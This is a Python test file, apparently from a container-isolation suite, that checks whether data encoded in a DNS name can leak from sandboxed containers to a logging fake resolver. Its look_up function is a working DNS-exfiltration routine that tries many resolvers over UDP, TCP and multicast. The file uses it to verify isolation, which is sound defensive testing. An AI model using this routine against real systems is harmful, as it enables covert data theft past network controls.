"""Promise 1, by names: a name that is looked up carries data to whoever answers. A resolver that logs hears nothing.

Every way of looking up is tried towards a resolver of the host's own, towards the usual ones and by the groups; also in
a container that the engine was told of the resolver for. In a weak container, which shares the host's network, the same
attack reaches the resolver by every one of the ways.
"""

from __future__ import annotations

from typing import Any

from attacks.cells import EVERY, Cells, host
from attacks.fake_resolver import ADDRESS, EVERYTHING, GROUPS, STREAMS, resolving
from hub.doctor.listeners import OUTSIDE, own_addresses
from spawner_config.isolation import Purpose

USUAL = ("127.0.0.1", "127.0.0.11", "127.0.0.53", "0.0.0.0", "::1")
NAME = "c2VjcmV0.lab.example"


def look_up(name: str, servers: list[str], streams: list[int], groups: dict[int, str]) -> Any:
    """Look a name up in every way known to us; says the ways that had an answer or a connection."""
    import pathlib
    import socket

    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0\0\x01\0\x01"
    named = [
        line.split()[1]
        for line in pathlib.Path("/etc/resolv.conf").read_text().splitlines()
        if line.startswith("nameserver")
    ]
    tried, done = [], []

    def attempt(way: str, act: Any) -> None:
        tried.append(way)
        try:
            act()
            done.append(way)
        except OSError:
            pass

    def datagram(address: str, port: int) -> None:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            if port in groups:
                s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
            s.sendto(query, (address, port))
            s.recv(512)

    def stream(address: str, port: int) -> None:
        with socket.create_connection((address, port), timeout=0.3) as s:
            s.sendall(len(query).to_bytes(2, "big") + query)

    for address in [*servers, *named]:
        attempt(f"udp {address} 53", lambda a=address: datagram(a, 53))
        for port in streams:
            attempt(f"tcp {address} {port}", lambda a=address, p=port: stream(a, p))
    for port, group in groups.items():
        attempt(f"udp {group} {port}", lambda g=group, p=port: datagram(g, p))
    attempt("getaddrinfo", lambda: socket.getaddrinfo(name, 80))
    attempt("gethostbyaddr", lambda: socket.gethostbyaddr("198.51.100.7"))
    return {"tried": tried, "done": done}


def arguments() -> dict[str, object]:
    servers = [ADDRESS, *USUAL, *own_addresses(), *OUTSIDE]
    return {"name": NAME, "servers": servers, "streams": list(STREAMS), "groups": GROUPS}


@EVERY
def test_a_resolver_that_logs_hears_nothing(cells: Cells, purpose: Purpose) -> None:
    with resolving() as resolver:
        assert cells.worked(look_up, purpose, **arguments()) == []
        assert (resolver.ways, resolver.asked) == (set(), [])


def test_a_resolver_that_the_engine_was_told_of_hears_nothing_either(cells: Cells) -> None:
    with resolving() as resolver:
        assert cells.worked(look_up, weaken=host(Dns=[ADDRESS]), **arguments()) == []
        assert (resolver.ways, resolver.asked) == (set(), [])


def test_the_same_attack_reaches_the_resolver_from_a_weak_container_by_every_way(cells: Cells) -> None:
    with resolving() as resolver:
        said = cells.worked(look_up, weaken=host(NetworkMode="host", Dns=[ADDRESS]), **arguments())
        assert {"getaddrinfo", f"udp {ADDRESS} 53"} <= set(said)
        assert resolver.ways == EVERYTHING
        assert any(b"c2VjcmV0" in query for query in resolver.asked)
